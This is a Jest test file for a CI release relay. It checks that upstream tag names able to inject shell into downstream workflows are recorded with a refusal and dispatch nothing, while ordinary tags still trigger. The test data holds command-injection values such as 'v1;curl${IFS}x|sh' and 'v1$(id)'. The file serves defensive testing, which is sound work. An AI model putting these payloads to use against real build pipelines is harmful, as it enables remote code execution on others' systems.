import { describe, expect, it } from "@jest/globals";
import { getJson } from "../helpers/history.js";
import { COMMIT, UPSTREAM, upstreamRepo, useHarness } from "../helpers/scenario.js";
import { acmeAppRepo } from "../helpers/upstream.js";
import { waitFor } from "../helpers/wait-for.js";
import { GITHUB_TO_GITHUB_MAP } from "../helpers/maps.js";

/** Finding 9 of issue 16: a tag name is text a downstream workflow may paste into a shell. */
// every tag, `/` included (the default glob stops at a `/`)
const MAP = GITHUB_TO_GITHUB_MAP.replace("depends_on: [{ project: hello }]", 'depends_on: [{ project: hello, tags: "**" }]');
const startHarness = useHarness();
const start = (tag: string) => startHarness({
  map: MAP, repos: { [UPSTREAM]: { ...upstreamRepo(), tags: { [tag]: { type: "commit", sha: COMMIT } } }, "acme/app": acmeAppRepo() },
});
const releasePath = (tag: string) => `/releases/hello/${encodeURIComponent(tag)}`;

describe("tag names that could carry shell into a downstream", () => {
  it.each(["v1;curl${IFS}x|sh", "v1$(id)", "v1`id`", `v1"quoted"`, "x".repeat(129)])("%s is recorded with the reason and triggers nothing", async (tag) => {
    const h = await start(tag);

    const sent = await h.send("create.tag", (p) => (p.ref = tag));
    const release = await waitFor("the release record", async () => {
      const { status, body } = await getJson(h, `/api/v1${releasePath(tag)}`);
      return status === 200 ? body.release : undefined;
    });
    await h.idle();
    const page = await (await fetch(`${h.url}${releasePath(tag)}`)).text();

    expect(sent.status).toBeLessThan(300);
    expect(release).toMatchObject({ tag, sha: COMMIT, refused: expect.stringMatching(/not passed to downstreams/) });
    expect(h.github.calls("actions/create-workflow-dispatch")).toEqual([]);
    expect(h.github.calls("checks/create")).toEqual([]);
    expect(page).toContain("Nothing triggered:");
    expect(h.logs.join("")).toContain("tag recorded but not passed on: nothing triggered");
  });

  it.each(["v1.2.3", "release/2024.1", "v1.0.0+build.5", "simple-tag"])("%s still triggers, and its record has no refusal", async (tag) => {
    const h = await start(tag);

    await h.send("create.tag", (p) => (p.ref = tag));
    const dispatch = await waitFor("the dispatch", () => h.github.calls("actions/create-workflow-dispatch")[0]);
    const { body } = await waitFor("the release record", async () => {
      const got = await getJson(h, `/api/v1${releasePath(tag)}`);
      return got.status === 200 ? got : undefined;
    });

    expect(dispatch.body.inputs.openci_tag).toBe(tag);
    expect(body.release.refused).toBeUndefined();
  });
});
